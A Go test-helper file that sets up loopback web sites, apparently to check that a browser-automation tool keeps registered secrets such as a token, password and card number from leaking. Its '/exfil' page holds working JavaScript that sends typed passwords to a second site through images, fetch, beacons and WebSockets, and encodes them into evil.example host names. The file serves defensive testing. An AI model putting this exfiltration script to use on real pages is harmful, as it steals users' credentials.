package wire

import (
	"bytes"
	"context"
	"fmt"
	"html"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"sort"
	"strings"
	"sync"

	"github.com/coder/websocket"
)

// site is a loopback test site that records every request it receives,
// bodies included, before answering it.
type site struct {
	name string
	URL  string
	srv  *httptest.Server
	mu   sync.Mutex
	reqs []string
}

func startSite(name string, h func(*site, http.ResponseWriter, *http.Request)) (*site, error) {
	return newSite(name, h, false), nil
}

// startTLSSite is startSite on https (httptest's certificate).
func startTLSSite(name string, h func(*site, http.ResponseWriter, *http.Request)) (*site, error) {
	return newSite(name, h, true), nil
}

func newSite(name string, h func(*site, http.ResponseWriter, *http.Request), secure bool) *site {
	s := &site{name: name}
	s.srv = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		r.Body = io.NopCloser(bytes.NewReader(body))
		s.record(r, body)
		h(s, w, r)
	}))
	if secure {
		s.srv.StartTLS()
	} else {
		s.srv.Start()
	}
	s.URL = s.srv.URL
	return s
}

// record keeps the request as it arrived: request line, headers, body.
func (s *site) record(r *http.Request, body []byte) {
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s %s\n", r.Method, r.RequestURI, r.Proto)
	keys := make([]string, 0, len(r.Header))
	for k := range r.Header {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		for _, v := range r.Header[k] {
			fmt.Fprintf(&b, "%s: %s\n", k, v)
		}
	}
	b.WriteString("\n")
	b.Write(body)
	s.mu.Lock()
	s.reqs = append(s.reqs, b.String())
	s.mu.Unlock()
}

// Requests returns every request received so far.
func (s *site) Requests() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.reqs...)
}

func (s *site) Close() { s.srv.Close() }

func page(w http.ResponseWriter, title, body string) {
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	fmt.Fprintf(w, "<!doctype html><html><head><meta charset=utf-8><title>%s</title></head><body>%s</body></html>", title, body)
}

// accountURL is the page on A whose URL carries credentials in its query.
func accountURL(token, password, card string) string {
	q := url.Values{"token": {token}, "password": {password}, "card": {card}}
	return "/account?" + q.Encode()
}

// handlerA serves site A, where the secrets belong.
func handlerA(s *site, w http.ResponseWriter, r *http.Request) {
	switch r.URL.Path {
	case "/login":
		page(w, "Sign in", `<h1>Sign in</h1>
<form method="post" action="/session">
<label>User <input name="user" type="text"></label>
<label>Password <input name="password" type="password"></label>
<label>API token <input name="token" type="text"></label>
<label>Card number <input name="card" type="text" inputmode="numeric"></label>
<button type="submit">Sign in</button>
</form>`)
	case "/session":
		// The site answers a sign-in by moving the credentials into the
		// URL, as careless sites do.
		_ = r.ParseForm()
		// And keeps the token as its sign-in cookie, which a session's
		// named state then holds (sealed).
		http.SetCookie(w, &http.Cookie{Name: "wire_session", Value: r.PostForm.Get("token"), Path: "/", HttpOnly: true})
		http.Redirect(w, r, accountURL(r.PostForm.Get("token"), r.PostForm.Get("password"), r.PostForm.Get("card")), http.StatusSeeOther)
	case "/redirect":
		// A (magic-link style) redirect carrying the registered values.
		http.Redirect(w, r, accountURL(secretByName("WIRE_API_TOKEN"), secretByName("WIRE_PASSWORD"), secretByName("WIRE_CARD")), http.StatusFound)
	case "/dead":
		// A redirect to where nothing listens, the secret in path and query.
		http.Redirect(w, r, deadURL+"/x/"+url.PathEscape(secretByName("WIRE_API_TOKEN"))+"?password="+url.QueryEscape(secretByName("WIRE_PASSWORD")), http.StatusFound)
	case "/account":
		q := r.URL.Query()
		tok, pw, card := q.Get("token"), q.Get("password"), q.Get("card")
		e := html.EscapeString
		// The page echoes every value into its title, text, an attribute,
		// a field's value, a link, the console and a thrown error.
		page(w, "Account "+e(pw), fmt.Sprintf(`<h1>Welcome</h1>
<p id="tok">Your API token is %s</p>
<p title="%s">Your password is %s and your card %s.</p>
<label>Token again <input type="text" value="%s"></label>
<a href="/profile?password=%s&t=%s">Profile %s</a>
<pre>%s</pre>
<script>
const v = {tok: %q, pw: %q, card: %q};
try { localStorage.setItem("wire_card", v.card); sessionStorage.setItem("wire_pw", v.pw); } catch (e) {}
console.log("signed in", v.tok, v.pw, v.card);
console.error("card declined: " + v.card + " for " + v.pw);
setTimeout(() => { throw new Error("token rejected: " + v.tok); }, 0);
</script>
<script>throw new Error("password rejected: " + v.pw);</script>`,
			e(tok), e(pw), e(pw), e(card), e(tok), e(url.QueryEscape(pw)), e(url.QueryEscape(tok)), e(card), e(pw+"\n"+tok), tok, pw, card))
	case "/exfil":
		// A hostile page on A: whatever is typed into its password field is
		// sent to site B as an image URL, a fetch body (as it is, as
		// JSON.stringify writes it, every character \u-escaped, every
		// character an HTML reference), a beacon and a frame on a WebSocket
		// opened before anything was typed; and to B's https twin as a
		// fetch body and a wss:// frame.
		page(w, "Exfil", fmt.Sprintf(`<h1>Log in</h1>
<label>Password <input id="pw" type="password"></label>
<button id="go" type="button">Continue</button>
<p id="status">waiting</p>
<script>
const B = %q, BS = %q;
const ws = new WebSocket(B.replace(/^http/, "ws") + "/ws");
const wss = new WebSocket(BS.replace(/^https/, "wss") + "/ws");
function send() {
  const v = document.getElementById("pw").value;
  if (!v) return;
  new Image().src = B + "/img?p=" + encodeURIComponent(v);
  fetch(B + "/fetch", {method: "POST", mode: "no-cors", body: v}).catch(() => {});
  fetch(B + "/json", {method: "POST", mode: "no-cors", body: JSON.stringify({v})}).catch(() => {});
  const codes = Array.from(v, c => c.charCodeAt(0));
  fetch(B + "/json-escaped", {method: "POST", mode: "no-cors", body: '{"v":"' + codes.map(n => "\\u" + n.toString(16).padStart(4, "0")).join("") + '"}'}).catch(() => {});
  fetch(B + "/html", {method: "POST", mode: "no-cors", body: "<p>" + codes.map(n => "&#" + n + ";").join("") + "</p>"}).catch(() => {});
  try { navigator.sendBeacon(B + "/beacon", btoa(v)); } catch (e) {}
  try { ws.send(v); } catch (e) {}
  fetch(BS + "/fetch", {method: "POST", mode: "no-cors", body: v}).catch(() => {});
  try { wss.send(v); } catch (e) {}
  // The value in a host name: the name itself would carry it to evil.example's
  // name server, if the worker looked it up.
  const hex = Array.from(new TextEncoder().encode(v), b => b.toString(16).padStart(2, "0")).join("");
  try { new WebSocket("wss://" + hex.match(/.{1,60}/g).join(".") + ".evil.example/ws"); } catch (e) {}
  try { new WebSocket("wss://control.evil.example/ws"); } catch (e) {}
  document.getElementById("status").textContent = "sent";
}
document.getElementById("pw").addEventListener("input", send);
document.getElementById("pw").addEventListener("change", send);
document.getElementById("go").addEventListener("click", send);
</script>`, siteB.URL, siteBS.URL))
	default:
		page(w, "Site A", `<p>site A</p>`)
	}
}

// handlerB serves site B, which no secret belongs to: it answers everything
// with an empty 204 and keeps what it was sent, WebSocket frames included.
func handlerB(s *site, w http.ResponseWriter, r *http.Request) {
	if r.URL.Path == "/ws" {
		c, err := websocket.Accept(w, r, &websocket.AcceptOptions{InsecureSkipVerify: true})
		if err != nil {
			return
		}
		defer c.CloseNow()
		for {
			_, msg, err := c.Read(context.Background())
			if err != nil {
				return
			}
			s.mu.Lock()
			s.reqs = append(s.reqs, "WS FRAME /ws\n\n"+string(msg))
			s.mu.Unlock()
		}
	}
	w.Header().Set("Access-Control-Allow-Origin", "*")
	w.WriteHeader(http.StatusNoContent)
}
